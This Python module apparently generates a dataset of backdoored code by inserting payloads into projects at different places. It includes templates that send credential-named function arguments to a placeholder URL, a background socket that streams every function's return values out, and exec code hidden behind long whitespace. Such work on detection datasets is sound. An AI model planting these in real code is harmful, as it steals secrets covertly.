"""Payloads at the module level of an inner module, and inside functions and methods that a user calls."""

import textwrap

from jobs.corpus.payloads.contract import Family
from jobs.corpus.payloads.draft import Draft
from jobs.corpus.payloads.source_places import FunctionPlace, as_function, insert_at_line, line_after_imports
from jobs.corpus.variants.python_source import SOURCE_ERRORS


def module_statements(draft: Draft) -> None:
    """Put the code into an inner module."""
    draft.insert(draft.inner()[0], draft.code())


def module_function(draft: Draft) -> None:
    """Call a function with the code in an inner module."""
    name = draft.words.name()
    draft.insert(draft.inner()[0], as_function(draft.code(), name, draft.rng) + f"\n\n{name}()\n")


def module_chain(draft: Draft) -> None:
    """Lead from an inner module through one new module to another."""
    first = draft.add_module(draft.inner()[0], "")
    draft.members.remove(first)
    draft.add_module(first, draft.code())


def class_body(draft: Draft) -> None:
    """Put the code into the body of a new class of an inner module."""
    body = textwrap.indent(draft.code(), "    ")
    draft.insert(draft.inner()[0], draft.words.render(f"class @C1@:\n    enabled = True\n{body}\n"))


def off_screen(draft: Draft) -> None:
    """Push the code off the screen, behind a line that is there."""
    text = f"exec({draft.code()!r})"
    for path in draft.inner():
        try:
            source = draft.files[path]
            line = line_after_imports(source)
            lines = source.decode().splitlines(keepends=True)
            before = lines[line - 2].rstrip("\n") if line > 1 else ""
            if not before.startswith(("import ", "from ")) or "#" in before or before.endswith(("(", ")", "\\", ",")):
                continue
            lines[line - 2] = f"{before}{' ' * draft.rng.choice((150, 220, 400))};{text}\n"
            changed = "".join(lines).encode()
            compile(changed, path, "exec")
        except (*SOURCE_ERRORS, IndexError):
            continue
        draft.put(path, changed)
        return
    raise draft.fail("has no import line that something fits behind")


def default_argument(draft: Draft) -> None:
    """Run the code where a default argument is evaluated."""
    name = draft.words.name()
    draft.insert(draft.inner()[0], as_function(draft.code(), name, draft.rng) + draft.words.render(
        f"\n\ndef @n5@(value=None, _state={name}()):\n    return value\n"
    ))  # fmt: skip


def in_function(draft: Draft) -> None:
    """Put the code at the start of a function that is used."""
    draft.insert_in_function(draft.code(), lambda place: not place.owner and not place.name.startswith("_"))


def in_constructor(draft: Draft) -> None:
    """Put the code into the constructor of a class."""
    draft.insert_in_function(draft.code(), lambda place: place.name == "__init__")


def call_in_function(draft: Draft) -> None:
    """Call a new function, in the same module, from one that is used."""
    name = draft.words.name()
    helper = as_function(draft.code(), name, draft.rng, quiet=True)
    draft.insert_in_function(f"{name}()\n", lambda place: not place.name.startswith("__") or place.name == "__init__")
    path = draft.members[-1]
    draft.put(path, insert_at_line(draft.files[path], line_after_imports(draft.files[path]), f"\n{helper}\n"))


def import_in_function(draft: Draft) -> None:
    """Import a new module from inside a function that is used."""
    name = draft.module_name(draft.folder)
    body = textwrap.indent(draft.code(), "    ")
    draft.put_new(f"{draft.folder}{name}.py", f"def run():\n{body}\n")
    draft.insert_in_function(f"from {draft.import_name}.{name} import run as _run\n_run()\n")


def arguments_sent(draft: Draft) -> None:
    """Send what a function is given, in a function that takes a secret or anything else."""

    def text(place: FunctionPlace) -> str:
        names = [a for a in place.arguments if a not in {"self", "cls"}]
        secret = [
            a for a in names if any(w in a.lower() for w in ("key", "token", "pass", "secret", "user", "url", "data"))
        ]
        sent = ", ".join(f"'{a}': repr({a})" for a in (secret or names)[:3])
        return draft.words.render(draft.rng.choice((
            f"import json as _j, urllib.request as _u\ntry:\n    _u.urlopen('@url@', _j.dumps({{{sent}}}).encode(), timeout=2)\nexcept Exception:\n    pass\n",
            f"try:\n    import requests as _r\n    _r.post('@hook@', json={{{sent}}}, timeout=@num@)\nexcept Exception:\n    pass\n",
        )))  # fmt: skip

    draft.insert_in_function(text, lambda place: len(set(place.arguments) - {"self", "cls"}) > 0)


def results_sent(draft: Draft) -> None:
    """Wrap a function so that what it returns leaves through a queue in the background."""
    helper = draft.words.render(
        "import functools\nimport queue\nimport socket\nimport threading\n\n@n5@ = queue.Queue()\n\n\ndef @n6@():\n    while True:\n        @n7@ = @n5@.get()\n"
        "        with socket.create_connection(('@host@', @port@), 3) as @n8@:\n            @n8@.sendall(repr(@n7@).encode())\n\n\n"
        "threading.Thread(target=@n6@, daemon=True).start()\n\n\ndef @n9@(function):\n    @functools.wraps(function)\n    def inner(*args, **kwargs):\n"
        "        held = function(*args, **kwargs)\n        @n5@.put((args, kwargs, held))\n        return held\n\n    return inner\n"
    )  # fmt: skip
    name = draft.words.render("@n9@")
    path = draft.add_module(draft.inner()[0], helper)
    places = f"for _k, _v in list(globals().items()):\n    if callable(_v) and not isinstance(_v, type) and getattr(_v, '__module__', '') == __name__:\n        globals()[_k] = {name}(_v)\n"
    importer = next(p for p in draft.changed if p != path)
    module = path.rpartition("/")[2].removesuffix(".py")
    dot = "." if f"{path.rpartition('/')[0]}/__init__.py" in draft.files else ""
    draft.put(
        importer,
        draft.files[importer].rstrip(b"\n")
        + f"\n\n\nfrom {dot}{module} import {name}  # noqa: E402\n\n{places}".encode(),
    )


def in_error_path(draft: Draft) -> None:
    """Run the code where a used function meets an error of its own."""
    body = textwrap.indent(draft.code(), "    ")
    draft.insert_in_function(f"try:\n    {{}}['{draft.words.word()}']\nexcept KeyError:\n{body}")


FAMILIES = (
    Family("module-statements", "module", "train", module_statements),
    Family("module-function", "module", "train", module_function),
    Family("module-chain", "module", "valid", module_chain),
    Family("class-body", "module", "test", class_body),
    Family("off-screen", "module", "test", off_screen),
    Family("default-argument", "module", "test", default_argument),
    Family("in-function", "function", "train", in_function),
    Family("in-constructor", "function", "train", in_constructor),
    Family("call-in-function", "function", "train", call_in_function),
    Family("import-in-function", "function", "test", import_in_function),
    Family("arguments-sent", "function", "train", arguments_sent, dress="plain", takes_trigger=False),
    Family("results-sent", "function", "test", results_sent, dress="plain", takes_trigger=False),
    Family("error-path", "function", "valid", in_error_path),
)
